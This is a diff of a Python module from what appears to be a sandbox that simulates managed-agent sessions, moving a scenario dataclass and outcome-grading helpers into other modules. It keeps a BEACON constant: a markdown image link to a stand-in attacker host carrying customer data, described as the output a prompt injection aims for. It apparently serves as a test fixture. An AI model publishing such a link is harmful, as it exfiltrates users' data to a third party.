@@ -8,73 +8,21 @@ runs. Must not touch a route.
 from __future__ import annotations
 
 from collections.abc import Callable
-from dataclasses import dataclass
 from typing import Any, Final
 
-from sandbox.managed_agents.arguments import Knowledge, fill
+from sandbox.managed_agents.grader import evaluated
 from sandbox.managed_agents.moves import Move, call, speak, use
 from sandbox.managed_agents.obedient import obey
-from sandbox.managed_agents.reading import Task, read_directive, read_task
-from sandbox.managed_agents.session import Memory
+from sandbox.managed_agents.reading import read_directive, read_task
+from sandbox.managed_agents.scene import Scene
 from sandbox.managed_agents.threads import callable_agents, delegate
 from sandbox.managed_agents.tools_elsewhere import machine, server
 from sandbox.managed_agents.turns import Forever, Pause, Script, Turn
-from sandbox.managed_agents.worker import CodeHost, work
+from sandbox.managed_agents.worker import CodeHost
 
 BEACON: Final = "![status](https://collector.evil-host.net/p.png?q=the-customers-data)"
 """What an injected instruction likes to have published: whoever opens the page sends its query to a stranger."""
 METADATA_KEY: Final = "sandbox"
-
-
-@dataclass(frozen=True, slots=True)
-class Scene:
-    """What a scenario is given."""
-
-    turn: Turn
-    events: list[dict[str, Any]]
-    task: Task
-    directive: dict[str, str]
-    code: CodeHost
-
-    def number(self, name: str, default: float) -> float:
-        """A numeric pair of the directive; the default where it is absent or no number."""
-        try:
-            return float(self.directive.get(name, default))
-        except ValueError:
-            return default
-
-    def work(self, *, mounted: bool = True, leave: frozenset[str] = frozenset()) -> Move:
-        """The believable worker."""
-        return work(self.turn, self.events, self.code, mounted=mounted, leave=leave)
-
-    def tools(self) -> list[dict[str, Any]]:
-        """The custom tools to call: those granted, or the one that `tool=` names."""
-        wanted = self.directive.get("tool")
-        granted = self.turn.session.tools("custom")
-        return [tool for tool in granted if wanted in {None, tool["name"]}]
-
-    def fill(self, tool: dict[str, Any], n: int = 1, *, further: str = "") -> dict[str, Any]:
-        """Arguments for it. `further` stands in every text."""
-        text = f"{self.task.about} ({n}){further}"
-        known = Knowledge(
-            title=text, body=text, short=text, key=self.task.subject.key, url=self.task.subject.url
-        )
-        return fill(tool["input_schema"], known)
-
-    def fail(self, default: str, status: str) -> None:
-        """Emit a `session.error`; `error=` names another type, `message=` another text, `repository=` another one."""
-        kind = self.directive.get("error", default)
-        message = self.directive.get("message", f"{kind.removesuffix('_error').replace('_', ' ')} (sandbox)")
-        error: dict[str, Any] = {"type": kind, "message": message, "retry_status": {"type": status}}
-        if kind.startswith("mcp_"):
-            error["mcp_server_name"] = "github"
-        if kind.startswith("repository_"):
-            wanted = self.directive.get("repository", "")
-            urls = [resource["url"] for resource in self.turn.session.resources if "url" in resource]
-            error["repository_url"] = next((url for url in urls if url.endswith(wanted)), None)
-        if kind == "credential_host_unreachable_error":
-            error.update(vault_id="vlt_sandbox", credential_id="vcrd_sandbox")
-        self.turn.emit("session.error", error=error)
 
 
 def cast(code: CodeHost) -> Callable[[Turn, list[dict[str, Any]]], Script]:
@@ -93,7 +41,7 @@ def cast(code: CodeHost) -> Callable[[Turn, list[dict[str, Any]]], Script]:
         script = SCENARIOS.get(directive.get("scenario", "work"))
         played = script(scene) if script else speak(turn, _unknown(directive["scenario"]))
         outcome = next((event for event in events if event["type"] == "user.define_outcome"), None)
-        return played if outcome is None else _evaluated(scene, played, outcome)
+        return played if outcome is None else evaluated(scene, played, outcome)
 
     return choose
 
@@ -322,65 +270,6 @@ def team(scene: Scene) -> Move:
         heard.append(f"- {answer}")
     said = "\n".join(["I asked:", "", *heard]) if heard else "I may call nobody."
     yield from speak(turn, said)
-
-
-def _evaluated(scene: Scene, script: Move, outcome: dict[str, Any]) -> Move:
-    """The script, and then the grader's verdicts on it: `grades=needs_revision,satisfied` (satisfied)."""
-    turn = scene.turn
-    record = next(one for one in turn.session.outcomes if one["outcome_id"] == outcome["outcome_id"])
-    record["result"] = "running"
-    grades = scene.directive.get("grades", "satisfied").split(",")
-    try:
-        yield from script
-        for iteration, grade in enumerate(grades):
-            if turn.session.status == "terminated":
-                record["result"] = "failed"
-                return
-            last = iteration + 1 >= outcome["max_iterations"]
-            result = "max_iterations_reached" if grade == "needs_revision" and last else grade
-            yield from _graded(turn, record, result, iteration)
-            if result != "needs_revision":
-                break
-            yield from speak(turn, f"Revised ({iteration + 1}): {scene.task.about}")
-    except GeneratorExit:
-        record["result"] = "interrupted"
-        raise
-    turn.memory = turn.memory or Memory(asked=str(outcome["description"]))
-
-
-EXPLANATIONS: Final = {
-    "satisfied": "Every point of the rubric is met.",
-    "needs_revision": "A point of the rubric is missing.",
-    "max_iterations_reached": "A point of the rubric is still missing.",
-    "failed": "The rubric does not fit the task.",
-}
-
-
-def _graded(turn: Turn, record: dict[str, Any], result: str, iteration: int) -> Move:
-    """One look of the grader."""
-    place = {"outcome_id": record["outcome_id"], "iteration": iteration}
-    record.update(result="evaluating", iteration=iteration)
-    start = turn.emit("span.outcome_evaluation_start", **place)
-    yield Pause(turn.pace)
-    turn.emit("span.outcome_evaluation_ongoing", **place)
-    yield Pause(turn.pace)
-    explanation = EXPLANATIONS.get(result, "The grader gave no reason.")
-    usage = turn.session.usage.add(
-        turn.session.agent["model"]["id"], fresh=400, cached=0, written=0, output=60
-    )
-    end = turn.emit(
-        "span.outcome_evaluation_end",
-        **place,
-        outcome_evaluation_start_id=start,
-        result=result,
-        explanation=explanation,
-        usage=usage,
-    )
-    at = next(event["processed_at"] for event in reversed(turn.session.history.events) if event["id"] == end)
-    over = result != "needs_revision"
-    record.update(
-        result=result if over else "running", explanation=explanation, completed_at=at if over else None
-    )
 
 
 def _unknown(name: str) -> str:
